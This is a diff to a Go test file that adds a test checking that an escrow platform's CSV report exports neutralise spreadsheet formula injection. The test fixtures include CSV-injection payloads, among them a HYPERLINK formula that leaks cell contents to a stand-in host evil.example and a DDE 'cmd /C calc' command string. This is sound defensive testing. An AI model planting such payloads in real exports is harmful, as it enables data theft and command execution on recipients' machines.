@@ -1,7 +1,9 @@
 package api_test
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"os"
@@ -274,4 +276,77 @@ func TestReportsAPI(t *testing.T) {
 		t.Fatalf("bad period: %s", got.body)
 	}
 	e.must(403, req{method: "GET", path: "/v1/reports/settlement" + q, role: tenants.RoleMarketplace})
+}
+
+// TestReportCSVExportsNeutraliseFormulas: report CSV exports carry
+// marketplace-supplied text (order_ref, buyer and seller ids, names,
+// emails), masked or not; a cell that starts like a formula (= + - @, tab,
+// CR) must reach the spreadsheet as text, while amounts stay numbers.
+func TestReportCSVExportsNeutraliseFormulas(t *testing.T) {
+	e := newEnv(t)
+	ctx := context.Background()
+	if _, err := e.deps.FX.ImportRates(ctx, e.tenantA, []fx.RateSet{{Base: "EUR", AsOf: e.clock.Now().Add(-time.Hour), Source: "t",
+		Rates: map[string]decimal.Decimal{"USD": decimal.RequireFromString("1.08")}}}); err != nil {
+		t.Fatal(err)
+	}
+	const (
+		orderRef  = `=HYPERLINK("https://evil.example/?"&A1,"open")`
+		buyerID   = "@SUM(1+1)*cmd|' /C calc'!A0"
+		sellerID  = "+1+1"
+		sellerNm  = `=HYPERLINK("https://evil.example","Sam")`
+		buyerMail = "=1+1@example.com"
+	)
+	es, err := e.deps.Escrows.Create(ctx, e.tenantA, escrow.CreateRequest{OrderRef: orderRef, Amount: "12000.00", Currency: "EUR",
+		Buyer:  escrow.PartyInput{ID: buyerID, Name: "Ana Buyer", Country: "DE", Email: buyerMail},
+		Seller: escrow.PartyInput{ID: sellerID, Name: sellerNm, Country: "CN"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := e.deps.Escrows.Fund(ctx, e.tenantA, es.ID, 0, escrow.FundRequest{Amount: "12000.00", Currency: "EUR", PaymentRef: "p1"}); err != nil {
+		t.Fatal(err)
+	}
+	q := "?from=2026-03-01&to=2026-03-03"
+	for _, c := range []struct {
+		path string
+		want map[string]string // column → the cell of the first data row
+	}{
+		{"/v1/reports/settlement" + q, map[string]string{"seller_id": "'" + sellerID, "seller_name": "'=***", "funded": "12000.00"}},
+		{"/v1/reports/settlement" + q + "&unmasked=true", map[string]string{"seller_id": "'" + sellerID, "seller_name": "'" + sellerNm}},
+		{"/v1/reports/compliance" + q, map[string]string{"order_ref": "'" + orderRef, "buyer_id": "'" + buyerID,
+			"buyer_email": "'=***@example.com", "seller_id": "'" + sellerID, "seller_name": "'=***", "amount": "12000.00"}},
+		{"/v1/reports/compliance" + q + "&unmasked=true", map[string]string{"order_ref": "'" + orderRef, "buyer_id": "'" + buyerID,
+			"buyer_email": "'" + buyerMail, "seller_name": "'" + sellerNm}},
+	} {
+		r := e.must(200, req{method: "GET", path: c.path, role: rcFin, header: map[string]string{"Accept": "text/csv"}})
+		recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", c.path, err)
+		}
+		if len(recs) < 2 {
+			t.Fatalf("%s: no data rows: %s", c.path, r.body)
+		}
+		col := map[string]int{}
+		for j, h := range recs[0] {
+			col[h] = j
+		}
+		for name, want := range c.want {
+			j, ok := col[name]
+			if !ok {
+				t.Fatalf("%s: no column %s", c.path, name)
+			}
+			if got := recs[1][j]; got != want {
+				t.Errorf("%s: %s = %q, want %q", c.path, name, got, want)
+			}
+		}
+		for i, rec := range recs[1:] {
+			for j, cell := range rec {
+				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					continue
+				}
+				if _, numErr := decimal.NewFromString(cell); numErr != nil {
+					t.Errorf("%s: row %d column %s = %q starts a formula", c.path, i+1, recs[0][j], cell)
+				}
+			}
+		}
+	}
 }
